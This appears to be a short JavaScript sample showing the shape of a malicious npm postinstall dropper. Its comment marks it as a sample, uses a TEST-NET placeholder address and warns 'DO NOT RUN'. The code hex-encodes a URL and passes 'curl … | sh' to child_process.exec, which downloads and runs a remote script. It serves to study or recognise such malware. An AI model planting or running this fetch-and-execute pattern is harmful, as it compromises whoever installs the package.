// Shape of a 2025 postinstall dropper (strings replaced with TEST-NET values). DO NOT RUN.
const _0x1a=['\x68\x74\x74\x70\x3a\x2f\x2f\x32\x30\x33\x2e\x30\x2e\x31\x31\x33\x2e\x39\x2f\x73\x32','child_process','exec'];
require(_0x1a[1])[_0x1a[2]]('curl -s '+_0x1a[0]+' | sh');
